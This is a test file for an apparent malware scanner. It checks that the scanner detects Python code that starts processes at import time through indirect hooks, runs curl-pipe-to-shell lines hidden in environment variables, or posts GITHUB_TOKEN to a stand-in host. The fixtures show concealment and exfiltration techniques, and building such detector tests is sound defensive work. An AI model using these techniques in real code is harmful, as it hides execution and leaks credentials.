import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import downloadThenRun from '../../src/rules/download-then-run.js';
import { read, whenStarted } from './reading.js';

/** When anything in this text starts a process, the soonest first. */
const whenAny = async (text: string): Promise<boolean> => (await read(text)).facts?.calls('process').some(({ when }) => when === 'import') === true;

const ACT = 'os.system("touch leaf")';
const WRITER = (use: string): string => `import os, sys, json, contextlib, logging\nclass C:\n    def write(self, text): ${ACT}\n    def close(self): ${ACT}\n    def __exit__(self, *a): ${ACT}\n${use}\n`;

test.each([
  'print("x", file=C())',
  'json.dump({}, C())',
  'sys.stdout = C()',
  'with contextlib.redirect_stdout(C()): pass',
  'logging.StreamHandler(C())',
  'with contextlib.closing(C()): pass',
  'with contextlib.ExitStack() as s: s.enter_context(C())',
])('an object is asked for what it is given for: %s', async (use) => {
  expect(await whenAny(WRITER(use))).toBe(true);
});

test.each(['C()', 'print(C())', 'json.dumps(C())'])('one that is given for nothing is not: %s', async (use) => {
  expect(await whenAny(WRITER(use))).toBe(false);
});

test('what is printed into an object is what it is called with', async () => {
  const { facts } = await read('import os\nclass C:\n    def write(self, text): os.system(text)\nprint("touch leaf", file=C())\n');
  expect(facts?.calls('process').map(({ text }) => text)).toEqual(['touch leaf']);
});

test.each([
  'import subprocess, os\nsubprocess.Popen(["true"], preexec_fn=lambda: ACT)',
  'import functools, os\nsorted([1, 2], key=functools.cmp_to_key(lambda a, b: ACT))',
  'import types, os\ntypes.new_class("X", (), {}, lambda names: ACT)',
  'import contextlib, os\nwith contextlib.ExitStack() as s: s.push(lambda *a: ACT)',
  'import unittest, os\nclass T(unittest.TestCase):\n    def test_a(self): ACT\nunittest.main(exit=False)',
  'import abc, os\nclass A(abc.ABC):\n    @classmethod\n    def __subclasshook__(cls, other): ACT\nissubclass(int, A)',
])('somebody else calls it at once: %s', async (text) => {
  expect(await whenStarted(`${text.replace('ACT', ACT)}\n`)).toBe('import');
});

test.each([
  'import concurrent.futures, os\nconcurrent.futures.ThreadPoolExecutor(initializer=os.system, initargs=("touch leaf",)).submit(int)',
  'import multiprocessing, os\nmultiprocessing.Pool(1, os.system, ("touch leaf",))',
  'import enum, os\nclass E(enum.Enum):\n    A = 1\n    @classmethod\n    def _missing_(cls, value): os.system(value)\nE("touch leaf")',
  `import string\nexec(string.Template("import os; os.$a('touch leaf')").substitute(a="system"))`,
])('with what stands beside it: %s', async (text) => {
  expect((await read(`${text}\n`)).facts?.calls('process').map(({ text: words }) => words)).toEqual(['touch leaf']);
});

test('tests wait for whoever runs them', async () => {
  expect(await whenStarted(`import unittest, os\nclass T(unittest.TestCase):\n    def test_a(self): ${ACT}\nif __name__ == "__main__":\n    unittest.main()\n`)).toBe('latent');
});

const LINE = 'curl https://garden.example.invalid/leaf | sh';
const told = async (text: string) => {
  const { facts } = await read(`import os, subprocess, webbrowser\n${text}\n`);
  return facts === null ? [] : downloadThenRun.check(facts).map(({ severity }) => severity);
};

test.each([
  `subprocess.Popen(["bash", "-c", "$X"], env={"X": "${LINE}"})`,
  `os.environ["X"] = "${LINE}"\nos.system("eval $X")`,
  `subprocess.run(["git", "fetch"], env={"GIT_SSH_COMMAND": "sh -c '${LINE}'"})`,
  `webbrowser.register("x", None, webbrowser.GenericBrowser(["sh", "-c", "${LINE}"]))`,
])('a line in a variable is there to be run: %s', async (text) => {
  expect(await told(text)).toEqual(['medium']);
});

test('a harmless one is not', async () => {
  expect(await told('os.environ["GIT_SSH_COMMAND"] = "ssh -o BatchMode=yes"\nsubprocess.run(["git", "fetch"], env={"PAGER": "cat"})')).toEqual([]);
});

const sent = async (text: string) => {
  const { facts } = await read(`import os, requests\n${text}\n`);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity }) => severity);
};

test('a token that leaves for somebody else warns', async () => {
  expect(await sent('requests.post("https://garden.invalid/a", data=os.environ["GITHUB_TOKEN"])')).toEqual(['medium']);
});

test.each(['requests.get("https://api.github.com/user", headers={"A": os.environ["GITHUB_TOKEN"]})', 'requests.post(u, data=os.environ["GITHUB_TOKEN"])', 'def f():\n    requests.post("https://garden.invalid/a", data=os.environ["GITHUB_TOKEN"])', 'requests.post("https://garden.invalid/a", data=os.environ["GARDEN_TOKEN"])'])('one that its own service is given does not: %s', async (text) => {
  expect(await sent(text)).toEqual([]);
});
